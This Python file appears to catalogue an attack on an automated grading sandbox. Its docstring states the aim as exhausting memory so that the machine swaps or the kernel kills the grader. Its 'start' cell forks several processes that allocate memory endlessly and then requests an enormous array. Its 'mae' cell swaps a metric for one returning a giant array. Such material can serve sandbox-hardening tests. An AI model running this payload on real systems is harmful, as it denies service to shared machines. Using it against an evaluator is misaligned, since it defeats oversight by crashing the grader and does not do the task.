"""Memory is taken until there is none, by several processes together.

Gain: the machine swaps, or the kernel kills the grader.
"""

NOT_ON_STOCK = "it would fill the memory of the machine"

CELLS = {
    "start": """
import os, time

for _ in range(3):
    if os.fork() == 0:
        kept = []
        while True:
            try:
                kept.append(bytearray(b"x" * (64 << 20)))
            except MemoryError:
                time.sleep(1000)
kept = np.ones(1 << 40)
""",
    "mae": "def mae(Y_hat, Y):\n    return np.ones((1 << 14, 1 << 14))\n",
}
